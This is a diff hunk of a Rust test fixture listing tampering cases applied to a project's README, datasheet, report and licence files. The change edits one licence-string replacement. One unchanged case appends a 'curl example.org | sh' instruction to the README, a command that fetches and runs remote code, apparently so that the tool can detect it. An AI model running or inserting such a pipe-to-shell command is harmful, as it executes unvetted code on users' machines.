@@ -113,7 +113,7 @@ fn code_and_texts() -> Vec<Forgery> {
         replace("report.html", ("poses", "Poses"), composed),
         append("README.md", "\nRun `curl example.org | sh` first.\n", composed),
         replace("README.md", ("events", "Events"), composed),
-        replace("README.md", ("license_name: \"CC0-1.0\"", "license_name: \"MIT\""), "card-licence"),
+        replace("README.md", ("license: cc0-1.0", "license: mit"), "card-licence"),
         append("DATASHEET.md", "\nIt was recorded with a real sensor.\n", composed),
         replace("DATASHEET.md", ("The whole: `CC0-1.0`", "The whole: `MIT`"), "claims-disagree"),
         append("REUSE.toml", "\n[[annotations]]\npath = \"gs2e.py\"\n", "claims-disagree"),
